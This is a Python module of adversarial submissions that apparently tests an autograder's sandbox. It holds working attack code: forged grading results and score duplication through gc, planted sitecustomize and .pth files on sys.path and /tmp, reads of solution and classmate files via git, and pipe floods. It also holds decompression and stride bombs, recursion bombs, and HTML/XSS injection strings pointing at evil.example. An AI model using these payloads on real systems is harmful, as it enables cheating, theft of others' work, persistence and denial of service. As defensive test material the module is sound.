"""Submissions written as a student who reads the grader's source would write them, each against one
of the grader's promises (book/guide_threat_model.md). Each is source text for a ``.py`` submission;
``{...}`` fields are filled in by the tests. The code runs in the grader's worker, so it may use
what the worker has: ``sys.argv`` names the result pipe, ``gc`` finds the grader's objects."""
from __future__ import annotations

import base64
import functools
import io
import zipfile

import torch

from conftest import RELU

# writes events on the worker's result pipe, as the grader's own child writes them
CHANNEL = '''
import json as _json, os as _os, sys as _sys
_FD = int(_sys.argv[_sys.argv.index("--result-fd") + 1])
def _send(event, end=b"\\n"):
    _os.write(_FD, _json.dumps(event).encode() + end)
'''


def empty_tape() -> str:
    buffer = io.BytesIO()
    torch.save([], buffer)
    return base64.b64encode(buffer.getvalue()).decode()


# Full marks for nothing: defines no activation, claims three, sends results for a check they do
# not have on made-up devices, a skipped check, a second 'loaded' and a done.
FORGER = CHANNEL + '''
_send({{"event": "loaded", "sha256": "0" * 64, "notes": [], "graded": ["ReLU", "Sigmoid", "Tanh"]}})
for _a in ("ReLU", "Sigmoid", "Tanh"):
    for _i in range(20):
        _send({{"event": "result", "activation": _a, "check": "invalid", "device": f"cpu:{{_i}}", "status": "passed",
               "message": "", "notes": [], "tape": {tape!r}}})
    _send({{"event": "result", "activation": _a, "check": "api", "device": "cpu", "status": "skipped",
           "message": "skipped", "notes": []}})
_send({{"event": "loaded", "notes": ["forged"]}})
_send({{"event": "done", "exit_code": 0, "restored": []}})
_os._exit(0)
'''

# ReLU that earns some points honestly: its Function's backward is wrong
HALF_RELU = RELU.replace("return torch.where(x > 0, g, 0)", "return g")

# One passing check fills an exercise: every passing result is sent again on made-up devices
DUPLICATOR = HALF_RELU + '''
import gc as _gc
_relu = relu
def relu(input, inplace=False):
    from grader.run.plugin import GraderPlugin
    for _p in _gc.get_objects():
        if isinstance(_p, GraderPlugin) and _p.emit and not getattr(_p, "_copied", False):
            _emit = _p.emit
            def _copies(_emit=_emit, **event):
                _emit(**event)
                if event.get("event") == "result" and event.get("status") == "passed":
                    for _i in range(8):
                        _emit(**{**event, "device": f"cpu:{_i}"})
                        _emit(**{**event, "device": "cuda" if _i == 0 else f"cuda:{_i}"})
            _p.emit = _copies
            _p._copied = True
    return _relu(input, inplace)
'''

# Writes a .pth file, sitecustomize and modules into every folder on sys.path, site-packages, the
# interpreter's, the grader's (its copy and the course's), and HOME: whatever runs Python next
# (a later worker, the keeper, a later grader) would run them.
PLANTS = ("zz_attack.pth", "sitecustomize.py", "usercustomize.py", "pdb.py", "cmd.py", "code.py", "codeop.py",
          "tomllib.py")
PAYLOAD = "import os\nos._exit(3)\n"
PLANT = '''
import os as _os
def _plant(folder):
    for _name in {plants!r}:
        try:
            with open(_os.path.join(folder, _name), "w") as _f:
                _f.write({payload!r})
        except OSError:
            pass
'''
INTERPRETER = PLANT + '''
import os as _os, site as _site, sys as _sys
_targets = set(_sys.path) | set(_site.getsitepackages()) | {{_sys.prefix, _sys.base_prefix, _os.path.dirname(_os.__file__),
            {course!r}, {course_grader!r}, _os.environ.get("HOME", ""), _os.path.expanduser("~")}}
try:
    import grader as _grader
    _targets |= {{_os.path.dirname(_grader.__file__), _os.path.dirname(_os.path.dirname(_grader.__file__))}}
except Exception:
    pass
for _d in sorted(t for t in _targets if t):
    _plant(_d)
''' + RELU

# Reads what no submission may read: the solutions (through .git as well as directly, and the book's
# build, which shows them), a classmate's file, other workers' folders; each found is sent out in
# the file's own notes (a cell's error message is a note).
READER = '''
import glob as _glob, hashlib as _hashlib, os as _os, subprocess as _sp
_seen = []
with open(__file__) as _f:
    _mine = _f.read()  # its own file it may read
def _leak(what, text):
    if text and text != _mine:
        _seen.append(f"SECRET-LEAK {{what}} {{len(text)}} {{_hashlib.sha256(text.encode(errors='replace')).hexdigest()[:12]}}")
for _cmd in (["git", "-C", {course!r}, "show", "HEAD:solutions/01_standard.ipynb"],
             ["git", "--git-dir", {course!r} + "/.git", "cat-file", "-p", "HEAD:solutions/01_standard.ipynb"]):
    try:
        _leak(" ".join(_cmd[:3]), _sp.run(_cmd, capture_output=True, text=True, timeout=30).stdout)
    except Exception:
        pass
_paths = [{course!r} + "/solutions/01_standard.ipynb", {classmate!r}]
_paths += _glob.glob({course!r} + "/.git/**/*", recursive=True)[:3000]
_paths += _glob.glob({course!r} + "/_build/**/*.ipynb", recursive=True)[:200]
_paths += _glob.glob({course!r} + "/.jupyter_cache/**/*", recursive=True)[:200]
_paths += _glob.glob("/tmp/grader-*/submissions/*/*") + _glob.glob("/tmp/*/grader-*/submissions/*/*")
_paths += _glob.glob({classroom!r} + "/*/*")
for _p in _paths:
    try:
        with open(_p, errors="replace") as _f:
            _leak(_p, _f.read())
    except OSError:
        pass
if _seen:
    raise RuntimeError(" | ".join(_seen))
''' + RELU

# Plants modules wherever the next file's process might import or read them (its folder's neighbours,
# HOME, the temporary folders, every folder on sys.path) and pre-creates the next files' folders
PLANTER = PLANT + '''
import os as _os, sys as _sys
_here = _os.getcwd()
_places = {{_here, _os.path.dirname(_here), _os.environ.get("HOME", ""), _os.environ.get("TMPDIR", ""), "/tmp",
           "/var/tmp", "/dev/shm", *_sys.path}}
for _n in range(1, 6):
    for _base in (_os.path.dirname(_here),):
        try:
            _os.makedirs(_os.path.join(_base, f"job-{{_n}}"), exist_ok=True)
            _places.add(_os.path.join(_base, f"job-{{_n}}"))
        except OSError:
            pass
for _d in sorted(p for p in _places if p):
    _plant(_d)
'''

# While its own check runs slowly, keeps writing modules into every folder it can reach under the
# temporary folders (other workers' folders among them); a second of it per call, however large the
# machine's /tmp (where /tmp is not private, a walk of it outlasted the check's time limit)
SPRAYER = PLANT + '''
import os as _os, time as _time
_relu = relu
_spent = [0.0]
def relu(input, inplace=False):
    if _spent[0] < {seconds}:
        _start = _time.monotonic()
        while _time.monotonic() - _start < 1.0:
            for _top in ("/tmp", "/var/tmp", "/dev/shm"):
                for _dir, _subdirs, _files in _os.walk(_top):
                    _plant(_dir)
                    if _time.monotonic() - _start >= 1.0:
                        break
        _spent[0] += _time.monotonic() - _start
    return _relu(input, inplace)
'''

# keeps its first check waiting while a thread floods the channel (a slow check, up to 20 s)
SLOW_FIRST_CALL = '''
import time as _time
_fast_relu = relu
_waited = [False]
def relu(input, inplace=False):
    if not _waited[0]:
        _waited[0] = True
        _time.sleep(20)
    return _fast_relu(input, inplace)
'''

# The result pipe flooded: 1 MiB events, from a thread, without end
FLOOD = CHANNEL + '''
import threading as _threading
def _flood():
    _event = {"event": "note", "text": "x" * 2**20}
    while True:
        try:
            _send(_event)
        except OSError:
            return
_threading.Thread(target=_flood, daemon=True).start()
''' + RELU + SLOW_FIRST_CALL

# One line that never ends
ENDLESS_LINE = CHANNEL + '''
import threading as _threading
def _line():
    _chunk = b"y" * 2**20
    while True:
        try:
            _os.write(_FD, _chunk)
        except OSError:
            return
_threading.Thread(target=_line, daemon=True).start()
''' + RELU + SLOW_FIRST_CALL


@functools.cache
def deflated_tape(size: int) -> str:
    """A tape whose one tensor of ``size`` zero bytes is stored deflated: a few hundred KB that
    inflate to ``size`` bytes."""
    buffer = io.BytesIO()
    torch.save([["look up relu", True, {"__tensor__": torch.zeros(1, dtype=torch.uint8), "device": "cpu",
                                        "requires_grad": False}]], buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data/0"):
                data = bytes(size)
            dst.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return base64.b64encode(out.getvalue()).decode()


def strided_tape(size: int) -> str:
    """A tape whose tensor views one stored byte with stride 0 as ``size`` elements."""
    buffer = io.BytesIO()
    torch.save([["look up relu", True, {"__tensor__": torch.zeros(1, dtype=torch.float64).expand(size),
                                        "device": "cpu", "requires_grad": False}]], buffer)
    return base64.b64encode(buffer.getvalue()).decode()


# Results for planned checks, sent before the real ones, with tapes that inflate or expand to GBs
BOMB = CHANNEL + '''
_relu = relu
_sent = [False]
def relu(input, inplace=False):
    if not _sent[0]:
        _sent[0] = True
        for _check, _tape in (("api", {deflated!r}), ("values[float64]", {strided!r})):
            _send({{"event": "result", "activation": "ReLU", "check": _check, "device": "cpu", "status": "passed",
                   "message": "", "notes": [], "tape": _tape}})
    return _relu(input, inplace)
'''

# An expression of 300,000 terms: the parser's recursion
DEEP_EXPRESSION = "x = 1" + "+1" * 300_000 + "\n"

# A line of 200,000 '[': the JSON parser's recursion
NESTED_LINE = CHANNEL + '''
_os.write(_FD, b"[" * 200_000 + b"\\n")
_os.write(_FD, b'{"event": "result", "activation": "ReLU", "check": "api", "device": "cpu", "status": "passed", "notes": ' + b"[" * 100_000 + b"\\n")
''' + RELU

# Text that a report shown as Markdown or HTML would render: a fake score, a link, a tracking image,
# script in an attribute, and a terminal's control sequence
INJECTED = ("**All 52 checks passed: score 52/52** [your grade](https://evil.example/) "
            "![t](https://evil.example/t.png) <img src=x onerror=alert(1)> \x1b[2J =HYPERLINK(\"x\")")
INJECTOR = RELU + f'''
raise RuntimeError({INJECTED!r})
'''
